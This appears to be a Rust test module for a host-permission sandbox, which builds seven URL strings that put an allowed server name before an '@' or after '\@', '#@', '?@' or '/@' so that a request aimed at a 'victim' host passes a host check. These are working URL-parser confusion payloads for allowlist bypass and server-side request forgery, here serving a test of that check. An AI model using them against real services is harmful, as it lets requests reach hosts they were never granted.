//! Writes the granted host before an `@`, so that it looks like the one that is asked.

use bowline_guests::prelude::*;

target!(deploy, server_url(), text("victim"));

fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
    let host = |name| -> Result<String, Failure> {
        Ok(value(env, name)?.trim_start_matches("http://").to_owned())
    };
    let (server, victim) = (host("server-url")?, host("victim")?);
    try_all(
        app,
        [
            format!("http://{server}@{victim}/"),
            format!("http://me:{server}@{victim}/"),
            format!("http://{server}%40{victim}/"),
            format!("http://{victim}\\@{server}/"),
            format!("http://{victim}#@{server}/"),
            format!("http://{victim}?@{server}/"),
            format!("http://{victim}/@{server}/"),
        ],
    )
}
